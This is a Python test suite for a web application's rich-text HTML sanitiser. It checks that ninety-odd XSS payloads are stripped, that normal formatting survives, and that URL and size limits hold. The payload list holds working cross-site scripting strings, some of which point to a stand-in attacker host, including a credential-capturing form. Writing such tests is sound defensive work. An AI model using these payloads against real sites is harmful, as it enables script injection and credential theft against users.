"""What goes through the door of curriculum/richtext.py, and what stays outside. Both engines see every vector."""

import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError

from curriculum import richtext
from curriculum.richtext import clean, safe_url

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext></p><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src onerror=alert(1)>\"></noframes>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\x00script:alert(1)\">x</a>",
    "<a href=\"java\u200bscript:alert(1)\">x</a>",
    "<a href=\"\u202ejavascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://puente.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/\\evil.example/\">x</a>",
    "<a href=\"\\\\evil.example\\x\">x</a>",
    "<a href=\"https://bank.example@evil.example/\">x</a>",
    "<a href=\"https:evil.example\">x</a>",
    "<a href=\"https:///evil.example\">x</a>",
    "<a href=\"https://evil.example\\@bank.example\">x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a href=\"https://ok.example/\" style=\"position:fixed\" target=\"_top\">x</a>",
    "<a href=\"https://ok.example/&quot; onmouseover=alert(1) x=&quot;\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example/><input name=password></form>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example/>",
    "<custom-element onfocus=alert(1) tabindex=1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<p id=\"main\" class=\"btn\" name=\"next\">x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<img src=`x` onerror=alert(1)>",
    "<<img src=x onerror=alert(1)//<",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<embed code=evil.swf allowscriptaccess=always>",
    "<embedtype='page' id=1>",
]  # fmt: skip


class Inspector(HTMLParser):
    """Complains about every tag and attribute that is not expected."""

    def handle_starttag(self, tag, attributes):
        assert tag in richtext.TAGS, tag
        for name, value in attributes:
            assert tag == "a", (tag, name)
            assert name in ("href", "rel"), name
            assert name == "rel" or safe_url(value), value

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(html):
    Inspector(convert_charrefs=True).feed(html)


def test_there_are_enough_vectors():
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_hostile_comes_through(vector):
    for html in (vector, f"<p>a {vector} b</p>", f"<ul><li>{vector}", vector * 3):
        cleaned = clean(html)
        inspect(cleaned)
        assert clean(cleaned) == cleaned, "cleaning twice changes nothing"


@pytest.mark.parametrize("vector", VECTORS)
def test_the_last_word_alone_is_enough(vector, monkeypatch):
    """Dropping bleach is a one-line change: nh3 by itself holds against the same vectors."""
    monkeypatch.setattr(richtext, "CLEANER", type("Open", (), {"clean": staticmethod(lambda html: html)}))
    inspect(clean(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_bleach_alone_leaves_no_foreign_tag(vector):
    cleaned = richtext.CLEANER.clean(vector.translate(richtext.UNWANTED))
    for tag in ("<script", "<img", "<svg", "<style", "<iframe", "<object", "<base", "<form", "<meta"):
        assert tag not in cleaned.lower()


def test_what_people_write_stays():
    html = (
        '<h2>Plan</h2><p>Un <strong>texto</strong> con <em>énfasis</em>, <code>código</code> y <a href="https://example.org/a?b=c#d">enlace</a>.</p>'
        "<ul><li>uno</li><li>dos</li></ul><ol><li>tres</li></ol><blockquote>cita</blockquote><p>H<sub>2</sub>O<br>x<sup>2</sup></p><hr>"
    )
    cleaned = clean(html)
    for part in (
        "<h2>Plan</h2>",
        "<strong>texto</strong>",
        'href="https://example.org/a?b=c#d"',
        "<li>dos</li>",
        "<sub>2</sub>",
        "<blockquote>",
    ):
        assert part in cleaned
    assert 'rel="nofollow noopener noreferrer ugc"' in cleaned


def test_text_is_kept_and_nothing_gives_nothing():
    assert clean("5 < 7 & 8 > 2") == "5 &lt; 7 &amp; 8 &gt; 2"
    assert clean("") == clean(None) == ""


@pytest.mark.parametrize(
    "url",
    ["https://example.org", "http://example.org:8080/a/b?c=d&e=f#g", "https://sub.example-hospital.mx/ruta/é", "mailto:ana@example.org",
     "mailto:ana@example.org?subject=Hola%20a", "/es/programa/", "/", "#source-M2", "#"],
)  # fmt: skip
def test_safe_addresses(url):
    assert safe_url(url)


@pytest.mark.parametrize(
    "url",
    ["", "relative", "../x", "ftp://example.org", "https://", "https://-x", "tel:1", "/a b", "//x", "https://a/" + "x" * 2000],
)
def test_other_addresses(url):
    assert not safe_url(url)


# --- caps ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "code"),
    [
        ("x" * (64 * 1024 + 1), "too_long"),
        ("ñ" * (32 * 1024 + 1), "too_long"),
        ("<b>" * 5000, "too_much_markup"),
        ("<b>" * 41 + "x", "too_much_markup"),
        ("<br>" * 1001, "too_much_markup"),
        ("&amp;" * 2001, "too_much_markup"),
        ("<a " + "b=c " * 3000 + ">", "too_much_markup"),
        ("<a " + "/" * 10000 + ">", "too_much_markup"),
        ('<a ="' + "/" * 10000 + '">', "too_much_markup"),
        ("<!--" + "-" * 60000, "too_much_markup"),
    ],
)
def test_excess_is_refused_with_words(html, code):
    with pytest.raises(ValidationError) as refusal:
        clean(html)
    assert refusal.value.code == code
    assert refusal.value.messages[0]


AT_THE_CAP = {
    "text": "palabra " * 8192,
    "paragraphs": "<p>hola</p>" * 499 + "x" * 60000,
    "unclosed": "<p>a" * 999 + "x" * 61000,
    "links": '<a href="https://example.org/ruta">x</a>' * 320 + "x" * 50000,
    "entities": "&amp;" * 2000 + "x" * 55000,
    "broken entities": "&x" * 2000 + "y" * 61000,
    "lists": "<ul>" * 39 + "<li>a" * 900 + "x" * 60000,
    "misnested": "<b><i>" * 19 + "</b></i>" * 400 + "x" * 62000,
    "adopted": "<a><b>" * 19 + "<p>x</a></b>" * 300,
    "formatting": "<b><i><em><strong><code>" * 7 + "<p>a" * 900,
    "slashes": "<a " + "/" * 6100 + ">" + "x" * 59000,
    "attributes": "<a " + "b=c " * 1500 + ">" + "x" * 59000,
    "tables": "<table><tr><td>" * 12 + "<td>x</td>" * 460,
    "astral": "😀" * 16384,
    "returns": "\r" * 65536,
    "doctype": "<!DOCTYPE " + "x" * 5000 + ">" + "a" * 60000,
}


@pytest.mark.parametrize("name", AT_THE_CAP)
def test_the_dearest_text_that_is_let_in_costs_less_than_fifty_milliseconds(name):
    html = AT_THE_CAP[name][: 64 * 1024]
    clean(html[:100])
    costs = []
    for _try in range(5):
        start = time.process_time()
        clean(html)
        costs.append(time.process_time() - start)
    assert min(costs) < 0.05
